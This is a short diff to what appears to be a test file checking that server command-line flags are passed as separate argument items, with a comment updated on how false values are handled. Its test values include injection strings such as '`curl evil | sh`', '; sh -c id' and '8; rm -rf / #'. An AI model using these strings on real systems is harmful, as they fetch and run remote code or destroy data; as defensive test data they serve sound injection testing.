@@ -132,11 +132,11 @@ HOSTILE_VALUES = {
     "chat-template": "`curl evil | sh`\n&& echo pwned",
     "speculative-config": {"method": "ngram", "note": "' ; sh -c 'id"},
     "enable-chunked-prefill": True,
-    "disable-log-stats": False,
 }
 
 # Each flag and each value one argv item, in the order written; true is a bare
-# flag, false drops it, a mapping is compact JSON. Written out by hand.
+# flag, a mapping is compact JSON (false is refused by validation). Written out by
+# hand.
 EXPECTED_TAIL = [
     "--max-num-seqs",
     "8; rm -rf / #",
